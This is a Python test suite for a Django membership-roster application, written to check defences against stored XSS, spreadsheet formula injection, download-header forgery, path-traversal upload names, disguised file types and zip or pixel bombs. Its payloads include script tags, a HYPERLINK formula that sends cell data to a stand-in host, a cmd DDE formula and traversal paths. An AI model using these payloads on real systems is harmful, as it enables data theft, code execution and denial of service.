"""Hostile input: scripts in every rendered field, formulas in every export, bad uploads.

Each hostile value is stored the way users store data -- through the
services, or uploaded through the pages and the API -- and every page that
shows it is fetched.  The number of hostile inputs tried is printed by
``test_the_hostile_input_count_is_reported``.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import functools
import io
import json
import re
import resource
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.conf import settings
from django.test import Client, override_settings
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from tests.security.conftest import login
from tongxin.members.models import Member
from tongxin.members.roster.importer import roster_import
from tongxin.members.roster.reader import ImportFileError, read_roster
from tongxin.members.services import (
    member_leave,
    member_transfer,
    member_update,
    public_post_add,
)
from tongxin.orgs.models import Organization
from tongxin.orgs.services import department_create, org_create, org_update, post_assign

CJK = re.compile(r"[\u4e00-\u9fff]")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def client_of(user) -> Client:
    return login(Client(), user)


def chinese(text: str) -> bool:
    return bool(CJK.search(text))


# === scripts in every rendered text field =======================================

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
#: What must never reach a page unescaped, per payload.
RAW = {SCRIPT: ("<script>alert(1)",), IMG: ("<img src=x onerror",)}

#: Every text field any page renders: (model, field, max length).
TEXT_FIELDS = [
    ("org", "name", 100),
    ("org", "short_name", 50),
    ("org", "code", 32),
    ("org", "note", 2000),
    ("department", "name", 50),
    ("post", "term", 30),
    ("post", "note", 200),
    ("member", "name", 50),
    ("member", "former_name", 50),
    ("member", "native_place", 50),
    ("member", "title", 50),
    ("member", "work_unit", 100),
    ("member", "job", 100),
    ("member", "address", 200),
    ("member", "introducers", 100),
    ("member", "certificate_no", 30),
    ("member", "note", 2000),
    ("public_post", "body", 100),
    ("public_post", "term", 30),
    ("public_post", "role", 100),
    ("membership", "transfer_note", 200),
    ("membership", "leave_note", 200),
]


def tagged(payload: str, model: str, field: str, max_length: int) -> str:
    """Return the payload with a tag naming the field, if the field has room."""
    tag = f"#{model}.{field}"
    return payload + tag if len(payload) + len(tag) <= max_length else payload


def store_everywhere(payload: str, org, people, make_member) -> dict:
    """Store ``payload`` in every text field through the services."""
    root = people.root
    v = {(m, f): tagged(payload, m, f, n) for m, f, n in TEXT_FIELDS}
    branch = org_create(
        by=root, name="临时名称", kind="branch", code="HB1", parent=org.edu
    )
    # Through an update, so the history shows the hostile values too.
    branch = org_update(
        org=branch,
        by=root,
        version=branch.version,
        name=v["org", "name"],
        short_name=v["org", "short_name"],
        code=v["org", "code"],
        note=v["org", "note"],
    )
    department_create(
        organization=org.city, kind="other", name=v["department", "name"], by=root
    )
    member = make_member(branch, "临时姓名")
    member = member_update(
        member=member,
        by=root,
        version=member.version,
        **{f: v["member", f] for m, f, _n in TEXT_FIELDS if m == "member"},
    )
    post_assign(
        organization=branch,
        member=member,
        title="head",
        start_on=dt.date(2021, 1, 1),
        term=v["post", "term"],
        note=v["post", "note"],
        by=root,
    )
    public_post_add(
        member=member,
        by=root,
        kind="cppcc",
        level="city",
        body=v["public_post", "body"],
        term=v["public_post", "term"],
        role=v["public_post", "role"],
    )
    moved = make_member(org.edu1, "调动会员")
    member_transfer(
        member=moved,
        to_org=branch,
        on=dt.date(2022, 1, 1),
        by=root,
        note=v["membership", "transfer_note"],
        version=moved.version,
    )
    moved.refresh_from_db()
    member_leave(
        member=moved,
        status="withdrawn",
        on=dt.date(2023, 1, 1),
        by=root,
        note=v["membership", "leave_note"],
        version=moved.version,
    )
    return {"values": v, "branch": branch, "member": member, "moved": moved}


def hostile_pages(stored: dict, org, payload: str) -> list[tuple[str, dict]]:
    """Return (url, headers) of every page that renders the stored values."""
    branch, member, moved = stored["branch"], stored["member"], stored["moved"]
    post = branch.posts.get()
    public_post = member.public_posts.get()
    htmx = {"HTTP_HX_REQUEST": "true"}
    q = {"q": payload}
    return [
        (reverse("orgs:tree"), {}),
        (reverse("orgs:tree") + "?closed=1", {}),
        (reverse("orgs:detail", args=[org.city.pk]), {}),
        (reverse("orgs:detail", args=[org.edu.pk]), {}),
        (reverse("orgs:detail", args=[branch.pk]), {}),
        (reverse("orgs:edit", args=[branch.pk]), {}),
        (reverse("orgs:move", args=[branch.pk]), {}),
        (reverse("orgs:close", args=[branch.pk]), {}),
        (reverse("orgs:departments", args=[org.city.pk]), {}),
        (reverse("orgs:post_assign", args=[branch.pk]), {}),
        (reverse("orgs:post_assign", args=[branch.pk]) + "?member_q=临", htmx),
        (reverse("orgs:post_end", args=[branch.pk, post.pk]), {}),
        (reverse("members:list"), {}),
        (reverse("members:list") + "?status=all", {}),
        (reverse("members:list") + f"?org={branch.pk}", htmx),
        (reverse("members:list") + "?status=all", htmx),
        (reverse("members:list") + "?" + _query(q), {}),
        (reverse("members:list") + "?" + _query(q), htmx),
        (reverse("members:detail", args=[member.pk]), {}),
        (reverse("members:detail", args=[moved.pk]), {}),
        (reverse("members:edit", args=[member.pk]), {}),
        (reverse("members:transfer", args=[member.pk]), {}),
        (reverse("members:leave", args=[member.pk]), {}),
        (reverse("members:public_post_add", args=[member.pk]), {}),
        (reverse("members:create") + f"?org={branch.pk}", {}),
        (reverse("members:import"), {}),
        # Input echoed in messages: a bad date, bad filters.
        (reverse("orgs:tree") + "?" + _query({"on": payload}), {}),
        (reverse("members:list") + "?" + _query({"join_year": payload}), {}),
        (reverse("members:list") + "?" + _query({"on": payload, "sort": payload}), {}),
        (reverse("members:export") + "?" + _query({"join_year": payload}), {}),
        (reverse("members:export") + "?" + _query({"org": payload}), {}),
        # The public post's end form is on the detail page; the post itself:
        (reverse("members:detail", args=[public_post.member_id]), {}),
    ]


def _query(params: dict) -> str:
    from urllib.parse import urlencode

    return urlencode(params)


@pytest.mark.parametrize("payload", [SCRIPT, IMG], ids=["script", "img"])
def test_stored_scripts_are_escaped_on_every_page(payload, org, people, make_member):
    """Every page shows the stored values escaped; none runs them."""
    stored = store_everywhere(payload, org, people, make_member)
    client = client_of(people.staff)
    seen: set[tuple[str, str]] = set()
    pages = hostile_pages(stored, org, payload)
    for url, headers in pages:
        response = client.get(url, **headers)
        assert response.status_code in (200, 400), url
        html = response.content.decode()
        for raw in RAW[payload]:
            assert raw not in html, f"{url} renders {raw!r} unescaped"
        for key, value in stored["values"].items():
            if escape(value) in html:
                seen.add(key)
    # Every field is rendered (escaped) somewhere: the check covered it.
    tagged_keys = {
        (m, f)
        for m, f, n in TEXT_FIELDS
        if len(tagged(payload, m, f, n)) > len(payload)
    }
    assert tagged_keys <= seen, f"fields never rendered: {sorted(tagged_keys - seen)}"
    HOSTILE["stored script × page"] += len(pages)
    HOSTILE["stored script × field"] += len(TEXT_FIELDS)


def escape(text: str) -> str:
    from django.utils.html import escape as django_escape

    return str(django_escape(text))


@pytest.mark.parametrize("payload", [SCRIPT, IMG], ids=["script", "img"])
def test_the_api_answers_stored_scripts_as_json(payload, org, people, make_member):
    """The API returns data as JSON that browsers never sniff as HTML."""
    stored = store_everywhere(payload, org, people, make_member)
    client = client_of(people.staff)
    member, branch = stored["member"], stored["branch"]
    for url in (
        f"/api/v1/members/{member.pk}",
        f"/api/v1/members/{member.pk}/history",
        f"/api/v1/members?org={branch.pk}",
        f"/api/v1/orgs/{branch.pk}",
        f"/api/v1/orgs/{branch.pk}/posts",
        f"/api/v1/orgs/{org.city.pk}/departments",
        "/api/v1/orgs/tree",
        "/api/v1/members?" + _query({"join_year": payload}),
    ):
        response = client.get(url)
        assert response.status_code in (200, 422), url
        assert response["Content-Type"].startswith("application/json"), url
        assert response["X-Content-Type-Options"] == "nosniff", url
        json.loads(response.content)
        HOSTILE["stored script × API answer"] += 1


def _admin(username: str, role: str, org):
    from tests.conftest import PASSWORD
    from tongxin.accounts.models import User
    from tongxin.accounts.services import grant_role

    user = User.objects.create_user(username, f"{username}@example.com", PASSWORD)
    grant_role(by=None, user=user, role=role, organization=org.city)
    return user


@pytest.mark.parametrize("payload", [SCRIPT, IMG], ids=["script", "img"])
def test_the_administrators_pages_escape_stored_scripts(
    payload, org, people, make_member
):
    """Accounts, grants and the audit trail show hostile names escaped."""
    from tongxin.accounts.services import grant_role, user_create

    stored = store_everywhere(payload, org, people, make_member)
    account = user_create(
        by=None,
        username="hostile",
        password=None,
        display_name=payload,
        email="",
        member=stored["member"],
    )
    grant_role(by=None, user=account, role="org_head", organization=stored["branch"])
    pages = {
        "sysadmin": [
            reverse("accounts:users"),
            reverse("accounts:users") + "?" + _query({"q": payload}),
            reverse("accounts:user_detail", args=[account.pk]),
            reverse("accounts:user_edit", args=[account.pk]),
        ],
        "secadmin": [
            reverse("accounts:grants"),
            reverse("accounts:grants") + "?" + _query({"user": payload}),
            reverse("accounts:grants") + "?" + _query({"org": payload}),
            reverse("accounts:grant_create") + "?" + _query({"user": payload}),
        ],
        "auditadmin": [
            reverse("audit:list"),
            reverse("audit:list") + "?" + _query({"q": payload}),
            reverse("audit:list") + "?" + _query({"action": payload}),
            reverse("audit:export") + "?" + _query({"format": payload}),
        ],
    }
    escaped_seen = 0
    for role, urls in pages.items():
        client = client_of(_admin(role, role, org))
        for url in urls:
            response = client.get(url)
            assert response.status_code in (200, 400), url
            html = response.content.decode()
            for raw in RAW[payload]:
                assert raw not in html, f"{url} renders {raw!r} unescaped"
            escaped_seen += escape(payload) in html
            HOSTILE["stored script × page"] += 1
    assert escaped_seen >= len(pages)  # the hostile values were on the pages


def test_a_roster_with_scripts_previews_escaped(org, people):
    """Cells and headers of an uploaded roster are shown escaped in the preview."""
    client = client_of(people.staff)
    rows = [
        ["姓名", "性别", "出生日期", "组织代码", SCRIPT, IMG],
        [SCRIPT, "男", "1980-01-01", "G1B1", "x", "y"],
        [IMG, IMG, SCRIPT, SCRIPT, "x", "y"],
        ["钱三", "男", IMG, "G1B1", "x", "y"],
    ]
    for name, data in (
        ("花名册.csv", csv_bytes(rows)),
        ("花名册.xlsx", xlsx_bytes(rows)),
    ):
        response = client.post(
            reverse("members:import"), {"file": upload(name, data), "mode": "all"}
        )
        assert response.status_code == 200
        html = response.content.decode()
        assert escape(SCRIPT) in html
        for raw in (*RAW[SCRIPT], *RAW[IMG]):
            assert raw not in html
        HOSTILE["roster with scripts"] += 1


NUL_URLS = [
    "/members/?q=%00",
    "/members/?education=%00",
    "/members/?sector=a%00b",
    "/members/export/?q=%00",
    "/api/v1/members?q=%00",
    "/api/v1/roster/export?q=%00",
    "/orgs/?on=%00",
]


@pytest.mark.parametrize("url", NUL_URLS)
def test_a_nul_byte_in_a_query_is_refused_in_chinese_not_a_server_error(
    url, org, people
):
    """PostgreSQL refuses NUL in a query: the parser must catch it first."""
    client = client_of(people.staff)
    client.raise_request_exception = False
    response = client.get(url)
    assert response.status_code in (200, 400, 422), response.status_code
    text = response.content.decode()
    assert "空字符" in text or "统计日期" in text
    HOSTILE["NUL in a query"] += 1


def test_a_nul_byte_in_a_member_search_for_a_post_is_ignored(org, people):
    url = reverse("orgs:post_assign", args=[org.edu1.pk]) + "?member_q=%00"
    response = client_of(people.staff).get(url, HTTP_HX_REQUEST="true")
    assert response.status_code == 200
    HOSTILE["NUL in a query"] += 1


# === formulas in every export ===================================================

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"详情")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "=1+1",
    "'=1+1",  # already quoted: must come back as typed
]
#: Member text fields written to the roster export.
EXPORTED_TEXT = [
    "name",
    "former_name",
    "native_place",
    "title",
    "work_unit",
    "job",
    "address",
    "introducers",
    "certificate_no",
    "note",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def _formula_members(org, people, make_member) -> tuple[list[Member], Organization]:
    root = people.root
    branch = org_create(
        by=root,
        name='=HYPERLINK("http://x")',
        kind="branch",
        code="+HB2",
        parent=org.edu,
    )
    made = []
    for n, formula in enumerate(FORMULAS):
        fields = {f: formula for f in EXPORTED_TEXT if f != "certificate_no"}
        fields["certificate_no"] = f"{formula[:20]}{n}"
        name = fields.pop("name")
        made.append(make_member(branch, name, **fields))
    return made, branch


def _export(client, **params) -> bytes:
    response = client.get(reverse("members:export"), params)
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    return b"".join(response.streaming_content)


def test_exports_neutralise_formulas_and_reimport_restores_them(
    org, people, make_member
):
    """No exported cell starts a formula; importing the export restores every value."""
    members, branch = _formula_members(org, people, make_member)
    client = client_of(people.staff)
    data = _export(client, org=branch.pk)
    book = load_workbook(io.BytesIO(data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for formula in FORMULAS:
        assert any(formula in t for t in texts), formula
    for cell in cells:
        assert cell.data_type != "f", cell.coordinate
        if isinstance(cell.value, str):
            assert not cell.value.startswith(DANGEROUS_START), cell.value
    # Overwrite every value, then import the export: the formulas come back.
    for member in members:
        member.refresh_from_db()
        member_update(
            member=member,
            by=people.root,
            version=member.version,
            **{f: "改过" for f in EXPORTED_TEXT if f != "certificate_no"},
        )
    report = roster_import(
        by=people.staff, source=data, filename="export.xlsx", commit=True
    )
    assert not report.errors, report.errors
    assert report.updated == len(members)
    for member, formula in zip(members, FORMULAS, strict=True):
        member.refresh_from_db()
        for f in EXPORTED_TEXT:
            if f != "certificate_no":
                assert getattr(member, f) == formula, (f, getattr(member, f))
    HOSTILE["formula × exported field"] += len(FORMULAS) * len(EXPORTED_TEXT) + 2


def test_the_api_export_neutralises_formulas(org, people, make_member):
    _members, branch = _formula_members(org, people, make_member)
    response = client_of(people.staff).get(
        "/api/v1/roster/export", {"org": str(branch.pk)}
    )
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS_START), cell.value
    HOSTILE["formula × exported field"] += len(FORMULAS)


def test_the_audit_export_neutralises_formulas(org, people, make_member):
    """Names that are formulas reach the audit trail; its exports defuse them."""
    _formula_members(org, people, make_member)
    client = client_of(_admin("auditadmin", "auditadmin", org))
    response = client.get(reverse("audit:export"), {"format": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert any(f in cell for f in FORMULAS for row in rows for cell in row)
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS_START), cell
    response = client.get(reverse("audit:export"), {"format": "xlsx"})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS_START), cell.value
    HOSTILE["formula × exported field"] += 2 * len(FORMULAS)


def test_a_hostile_organization_name_cannot_forge_the_download_header(org, people):
    """An organization's name in the export's file name stays inside the header."""
    branch = org_create(
        by=people.root,
        name='x"; filename="evil.exe',
        kind="branch",
        code="HB3",
        parent=org.edu,
    )
    response = client_of(people.staff).get(
        reverse("members:export"), {"org": branch.pk}
    )
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert 'filename="evil.exe' not in disposition
    assert "\n" not in disposition and "\r" not in disposition
    HOSTILE["header injection"] += 1


# === uploads ==================================================================


def csv_bytes(rows: list[list], encoding: str = "utf-8") -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode(encoding)


def xlsx_bytes(rows: list[list]) -> bytes:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


VALID_ROWS = [
    ["姓名", "性别", "出生日期", "组织代码"],
    ["孙导入", "男", "1980-02-03", "G1B1"],
]


def upload(name: str, data: bytes, content_type: str = "application/octet-stream"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data, content_type=content_type)


def multipart(fields: dict[str, str], filename: str, data: bytes) -> tuple[bytes, str]:
    """Return a multipart body whose file part carries ``filename`` verbatim.

    Django's test client would strip a path from the name; a hostile client
    does not.
    """
    boundary = "----tongxin-hostile-boundary"
    parts = []
    for key, value in fields.items():
        parts.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n'
            f"{value}\r\n".encode()
        )
    parts.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; '
        f'filename="{filename}"\r\nContent-Type: text/csv\r\n\r\n'.encode()
        + data
        + b"\r\n"
    )
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


TRAVERSAL_NAMES = [
    "../../etc/passwd.csv",
    "/etc/passwd.csv",
    "..\\..\\windows\\win.ini.csv",
    "C:\\Users\\admin\\花名册.csv",
    "....//....//花名册.csv",
    "%2e%2e%2f%2e%2e%2fpasswd.csv",
    "a\x00b.csv",
    "..",
    "花名册.csv\x00.exe",
    "x" * 300 + ".csv",
    ".htaccess.csv",
]


def _files_under(path: Path) -> set[Path]:
    return {p for p in path.rglob("*") if p.is_file()}


@pytest.mark.parametrize("filename", TRAVERSAL_NAMES)
def test_uploads_are_stored_under_a_random_name_whatever_the_client_says(
    filename, org, people, db_state
):
    """The client's file name never becomes a path: uploads/roster-<token>.*"""
    var_dir = Path(settings.VAR_DIR)
    around = _files_under(var_dir.parent) - _files_under(var_dir)
    body, content_type = multipart({"mode": "all"}, filename, csv_bytes(VALID_ROWS))
    client = client_of(people.staff)
    response = client.generic(
        "POST", reverse("members:import"), body, content_type=content_type
    )
    assert response.status_code in (200, 400)
    if response.status_code == 400:
        assert chinese(response.content.decode())
    uploads_dir = var_dir / "uploads"
    stored = _files_under(var_dir)
    for path in stored:
        assert path.parent == uploads_dir, path
        assert re.fullmatch(r"roster-[A-Za-z0-9_-]{20,64}\.(upload|json)", path.name)
        if path.suffix == ".json":
            meta = json.loads(path.read_text(encoding="utf-8"))
            name = meta["filename"]
            assert "/" not in name and "\\" not in name and "\x00" not in name
            assert name not in ("", ".", "..")
        else:
            assert path.read_bytes() == csv_bytes(VALID_ROWS)
    assert _files_under(var_dir.parent) - _files_under(var_dir) == around
    # The API reads the upload without storing it anywhere.
    api = client.generic(
        "POST", "/api/v1/roster/import", body, content_type=content_type
    )
    assert api.status_code in (200, 400, 422)  # 422: a name that is no name
    if api.status_code != 200:
        assert chinese(api.json()["detail"])
    assert _files_under(var_dir) == stored
    HOSTILE["upload file name"] += 2


def _png() -> bytes:
    raw = b"\x00\xff\x00\x00"
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data))
        )

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return out.getvalue()


def _xlsm() -> bytes:
    """Return a valid workbook with a macro part, as Excel saves an .xlsm."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes(VALID_ROWS)))
    parts = {i.filename: source.read(i) for i in source.infolist()}
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
    return _zip(parts)


def _valid_xlsx() -> bytes:
    return xlsx_bytes(VALID_ROWS)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1024

#: (file name, content, what the refusal says)
WRONG_FILES = [
    ("图片.xlsx", _png(), "扩展名与内容不符"),
    ("网页.csv", b"<html><body><script>alert(1)</script></body></html>", "姓名"),
    ("旧版.xlsx", OLE, "旧版"),
    ("旧版.xls", OLE, ".xls"),
    ("WPS.et", OLE, "WPS"),
    ("宏.xlsm", _xlsm(), ".xlsx"),
    ("宏改名.xlsx", _xlsm(), "宏"),
    ("文档.xlsx", _zip({"word/document.xml": b"<w:document/>"}), "不是 Excel 工作簿"),
    ("工作簿改名.csv", _valid_xlsx(), "Excel 工作簿"),
    ("文档.pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "不支持的文件类型"),
    ("程序.csv", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff", "CSV"),
    ("图片.csv", _png(), "CSV"),
    ("无扩展名", csv_bytes(VALID_ROWS), "不支持的文件类型"),
    ("截断.xlsx", _valid_xlsx()[: len(_valid_xlsx()) // 2], "损坏"),
    ("截断尾部.xlsx", _valid_xlsx()[:-1], "损坏"),
    ("截断头部.xlsx", _valid_xlsx()[:100], "损坏"),
    ("空.xlsx", b"", "空"),
    ("空.csv", b"", "空"),
    ("空白.csv", b" \r\n\t\r\n", "空"),
    ("只有表头.csv", "姓名,性别\n".encode(), "没有会员数据"),
    ("乱码.csv", "姓名,性别\n".encode() + b"\xff\xff\xfe\x80\x81", "编码"),
    ("加密.xlsx", OLE + b"EncryptedPackage", "密码"),
]


def _refusal(response) -> str:
    if response["Content-Type"].startswith("application/json"):
        return response.json()["detail"]
    return response.content.decode()


# Ids from the file names alone: the .xlsx bytes hold the time they were made,
# and pytest-xdist needs every worker to collect the same ids.
@pytest.mark.parametrize(
    ("filename", "data", "says"), WRONG_FILES, ids=[f[0] for f in WRONG_FILES]
)
def test_files_of_the_wrong_kind_are_refused_in_chinese(
    filename, data, says, org, people, db_state
):
    """Web and API refuse the file with a Chinese message and change nothing."""
    client = client_of(people.staff)
    before = db_state()
    web = client.post(
        reverse("members:import"), {"file": upload(filename, data), "mode": "all"}
    )
    api = client.post(
        "/api/v1/roster/import", {"file": upload(filename, data), "commit": "true"}
    )
    for response in (web, api):
        assert response.status_code == 400, _refusal(response)[:300]
        message = _refusal(response)
        assert chinese(message) and says in message, message[:300]
    assert db_state() == before
    assert not _files_under(Path(settings.VAR_DIR) / "uploads")
    HOSTILE["wrong file"] += 2


def test_oversized_uploads_are_refused_before_they_are_read(org, people, db_state):
    client = client_of(people.staff)
    data = csv_bytes(VALID_ROWS + [["某某", "男", "1980-01-01", "G1B1"]] * 100)
    before = db_state()
    with override_settings(TONGXIN_MAX_UPLOAD_BYTES=1000):
        web = client.post(
            reverse("members:import"), {"file": upload("大.csv", data), "mode": "all"}
        )
        api = client.post(
            "/api/v1/roster/import", {"file": upload("大.csv", data), "commit": "true"}
        )
        with pytest.raises(ImportFileError, match="文件太大"):
            read_roster(data, filename="大.csv")
    assert web.status_code == 400 and "文件太大" in web.content.decode()
    assert api.status_code == 400 and "文件太大" in api.json()["detail"]
    assert db_state() == before
    assert not _files_under(Path(settings.VAR_DIR) / "uploads")
    HOSTILE["oversized"] += 3


# --- zip bombs ---------------------------------------------------------------

CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
    b'2006/content-types"><Default Extension="rels" ContentType="application/'
    b'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
    b'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
    b'sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType='
    b'"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    b"</Types>"
)
RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    b'openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/'
    b'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" '
    b'r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    b'openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    b'Target="worksheets/sheet1.xml"/></Relationships>'
)
SHEET = "xl/worksheets/sheet1.xml"


def zip_bomb(megabytes: int, part: str = SHEET) -> bytes:
    """Return a small .xlsx whose ``part`` unpacks to ``megabytes`` MB of XML."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("_rels/.rels", RELS)
        z.writestr("xl/workbook.xml", WORKBOOK)
        z.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        if part != SHEET:
            z.writestr(SHEET, b"<worksheet><sheetData/></worksheet>")
        with z.open(part, "w") as f:
            f.write(
                b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats'
                b'.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" '
                b't="inlineStr"><is><t>'
            )
            chunk = "姓名".encode() * (1 << 18)  # 1.5 MB
            for _ in range(megabytes * 2 // 3):
                f.write(chunk)
            f.write(b"</t></is></c></row></sheetData></worksheet>")
    return out.getvalue()


def lying_sizes(data: bytes, part: str = SHEET, size: int = 1000) -> bytes:
    """Declare ``size`` unpacked bytes for ``part``, with the CRC of that prefix."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    info = archive.getinfo(part)
    with archive.open(info) as f:
        crc = zlib.crc32(f.read(size))
    out = bytearray(data)
    local = info.header_offset
    struct.pack_into("<I", out, local + 14, crc)
    struct.pack_into("<I", out, local + 22, size)
    name = part.encode()
    central = out.find(b"PK\x01\x02" + out[local + 4 : local + 6])
    while out[central + 46 : central + 46 + len(name)] != name:
        central = out.find(b"PK\x01\x02", central + 4)
    struct.pack_into("<I", out, central + 16, crc)
    struct.pack_into("<I", out, central + 24, size)
    return bytes(out)


BOMBS = [
    ("sheet, 200 MB", lambda: zip_bomb(200)),
    ("shared strings, 200 MB", lambda: zip_bomb(200, "xl/sharedStrings.xml")),
    ("sheet, 200 MB, sizes that lie", lambda: lying_sizes(zip_bomb(200))),
    ("sheet, 30 MB", lambda: zip_bomb(30)),
]


@pytest.mark.parametrize(("label", "make"), BOMBS, ids=[b[0] for b in BOMBS])
def test_zip_bombs_are_refused_in_little_memory(label, make, org, people, db_state):
    data = make()
    assert len(data) < 1 << 20  # the upload itself is small
    before = db_state()
    rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(ImportFileError) as refused:
        read_roster(data, filename="炸弹.xlsx")
    api = client_of(people.staff).post(
        "/api/v1/roster/import", {"file": upload("炸弹.xlsx", data), "commit": "true"}
    )
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss) / 1024
    assert chinese(refused.value.message)
    assert api.status_code == 400 and chinese(api.json()["detail"])
    assert grown_mb < 100, f"memory grew by {grown_mb:.0f} MB"
    assert db_state() == before
    HOSTILE["zip bomb"] += 2


# --- encodings ----------------------------------------------------------------

ENCODED = [
    ("UTF-8 with BOM", codecs.BOM_UTF8 + csv_bytes(VALID_ROWS)),
    ("GBK", csv_bytes(VALID_ROWS, "gbk")),
    ("GB18030", csv_bytes(VALID_ROWS, "gb18030")),
    ("UTF-16 with BOM", csv_bytes(VALID_ROWS, "utf-16")),
    (
        "tabs, GBK",
        "姓名\t性别\t出生日期\t组织代码\n孙导入\t男\t1980-02-03\tG1B1\n".encode("gbk"),
    ),
    ("CRLF", csv_bytes(VALID_ROWS).replace(b"\n", b"\r\n")),
]


@pytest.mark.parametrize(("label", "data"), ENCODED, ids=[e[0] for e in ENCODED])
def test_csv_in_the_encodings_excel_writes_is_read_correctly(label, data, org, people):
    report = roster_import(by=people.staff, source=data, filename="花名册.csv")
    assert not report.errors, report.errors
    assert report.rows == 1 and report.created == 1
    assert report.plan[0].name == "孙导入"
    HOSTILE["encoding"] += 1


def test_csv_with_bytes_no_encoding_explains_is_refused(org, people):
    for data in (
        "姓名,性别\n".encode() + b"\xff\xff\xfe\x80\x81",
        b"\x80\x80\x80\x80",
        "姓名,性别\n".encode("utf-16-le"),  # UTF-16 without its BOM
    ):
        with pytest.raises(ImportFileError) as refused:
            roster_import(by=people.staff, source=data, filename="乱码.csv")
        assert chinese(refused.value.message)
        HOSTILE["encoding"] += 1


# === activities: scripts in titles, hostile attachments and photos ===========


def _event_for(org, by, **fields):
    from django.utils import timezone

    from tongxin.activities import services

    start = timezone.now().replace(microsecond=0) + dt.timedelta(days=7)
    fields.setdefault("title", "讲座")
    return services.event_create(
        by=by,
        organization=org,
        kind="lecture",
        start_at=start,
        end_at=start + dt.timedelta(hours=2),
        **fields,
    )


def _jpeg(size=(32, 24)) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", size, (10, 120, 200)).save(out, "JPEG")
    return out.getvalue()


@functools.cache
def _pixel_bomb() -> bytes:
    """Return a tiny PNG that decodes to 64 million pixels (over the limit)."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("1", (8_000, 8_000)).save(out, "PNG", optimize=True)
    return out.getvalue()


@pytest.fixture
def office(org, people):
    """Office staff who also run social service: manage photos and programs."""
    from tongxin.accounts.services import grant_role

    user = _admin("office", "staff_office", org)
    grant_role(by=None, user=user, role="staff_service", organization=org.city)
    return user


